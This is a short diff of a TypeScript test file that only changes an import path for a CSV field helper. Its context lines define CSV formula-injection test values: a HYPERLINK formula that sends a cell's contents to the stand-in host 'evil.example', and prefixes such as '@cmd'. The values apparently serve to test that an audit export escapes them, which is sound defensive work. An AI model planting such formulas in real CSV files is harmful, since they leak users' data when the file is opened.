@@ -3,7 +3,7 @@ import { startTestApp, type TestApp } from '../../../test/harness.ts';
 import { quickCreate, referenceIds, signedInClients } from '../../../test/documents-helpers.ts';
 import { newSignedInUser } from '../../../test/users-helpers.ts';
 import { csvRowsOf } from '../../../test/csv.ts';
-import { csvField } from './audit-csv.ts';
+import { csvField } from '../audit/audit-csv.ts';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"x")';
 const FORMULA_TITLES = ['+SUM(1)', '-1+1', '@cmd'];
